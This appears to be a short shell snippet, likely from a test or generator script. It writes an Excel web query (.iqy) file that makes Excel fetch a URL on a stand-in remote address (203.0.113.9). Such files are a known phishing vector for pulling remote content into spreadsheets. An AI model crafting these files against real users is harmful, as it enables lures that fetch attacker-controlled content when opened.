# An Excel web query (KB 157482): WEB, version 1, the URL Excel fetches.
printf 'WEB\r\n1\r\nhttp://203.0.113.9/q.php?x=1\r\n' > "$OUT"
